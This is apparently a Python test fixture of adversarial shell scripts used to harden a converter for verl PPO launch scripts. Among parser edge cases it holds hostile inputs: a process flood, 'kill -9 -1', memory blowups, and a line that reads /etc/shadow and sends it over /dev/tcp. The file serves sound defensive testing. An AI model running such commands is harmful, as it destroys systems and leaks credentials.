"""Provide hostile calls: shell scripts to be converted, with what has to be said of each."""

PPO = "python3 -m verl.trainer.main_ppo"

SCRIPTS: list[tuple[str, str, tuple[str, ...], bool]] = [
    (
        "a script with all that a shell has",
        "N=8\nA=(data.train_batch_size=$((N * 4)) \"+trainer.x=[1, 'two']\")\n"
        f"{PPO} \\\n  \"${{A[@]}}\" actor_rollout_ref.rollout.n='4' \\\n"
        '  actor_rollout_ref.actor.ppo_mini_batch_size="$N" ~trainer.logger "$@" 2>&1 | tee log\n',
        ("groups_per_iteration: 32", "group_size: 4", "count as successful: tee"),
        True,
    ),
    ("a script without a trainer", "ls -l\n", ("no command in it starts verl",), False),
    ("an empty script", "", ("no command in it starts verl",), False),
    (
        "a case that only a run would decide",
        "n=8\ncase $(hostname) in gpu) ;; npu) n=16 ;; *) exit 1 ;; esac\n"
        f"{PPO} trainer.n_gpus_per_node=$n",
        ("no command in it starts verl", "these did not run: hostname"),
        False,
    ),
    ("5,000 defaults", "x=" + "${A:-" * 5000 + "}" * 5000, ("no command in it starts",), False),
    ("5,000 branches", "if a; then " * 5000, ("unexpected token",), False),
    ("a quote that stays open", f"{PPO} a='b", ("unexpected EOF",), False),
    ("a list that stays open", "A=(1 2", ("unexpected EOF",), False),
    ("a command that stays open", f"{PPO} a=$(date", ("unexpected EOF",), False),
    ("words that are no overrides", f"{PPO} hello", ("'hello' is not an override",), False),
    ("a sweep", f"{PPO} data.seed=1,2", ("which is a sweep",), False),
    ("a list of Hydra that stays open", f"{PPO} 'data.val_files=[a'", ("do not close",), False),
    (
        "a number that only a run would tell",
        f"{PPO} data.train_batch_size=$BATCH",
        ("data.train_batch_size='$BATCH': it takes a whole number",),
        False,
    ),
    (
        "a script that would write",
        f"touch here\n{PPO} data.train_batch_size=$(touch there; echo 4)",
        ("'4' is not an override",),
        False,
    ),
    (
        "a variable that doubles itself",
        "a=xxxxxxxx\n" + "a=$a$a\n" * 500 + f"{PPO} trainer.project_name=$a data.seed=a",
        ("cannot allocate",),
        False,
    ),
    (
        "a list that doubles itself",
        "a=(1 2)\n" + 'a=("${a[@]}" "${a[@]}")\n' * 100 + f'{PPO} "${{a[@]}}"',
        ("no command in it starts verl",),
        False,
    ),
    ("9 to the 9 to the 9", f"{PPO} data.seed=$((9**9**9))", ("seed: -2123029214124047543",), True),
    ("half a character", "\x00\x01" + PPO + " =", ("cannot execute binary file",), False),
    ("a loop without end", f"{PPO} data.seed=1\nwhile :; do :; done", ("seed: 1",), True),
    ("processes without end", f"{PPO} data.seed=1\nwhile :; do : & done", ("seed: 1",), True),
    ("output without end", f"{PPO} data.seed=1\nwhile :; do echo x >&2; done", ("seed: 1",), True),
    ("a script that kills all", f"{PPO} data.seed=1\nkill -9 -1", ("seed: 1",), True),
    ("a forged record", f"printf '1 x\\0' >&$_TO\n{PPO} data.seed=1", ("seed: 1",), True),
    (
        "secrets, and a network",
        f"x=$(</etc/shadow); echo $x > /dev/tcp/127.0.0.1/22; {PPO} data.seed=1 trainer.x=a$x",
        ("seed: 1", "/etc/shadow: No such file or directory", "Connection refused"),
        True,
    ),
]
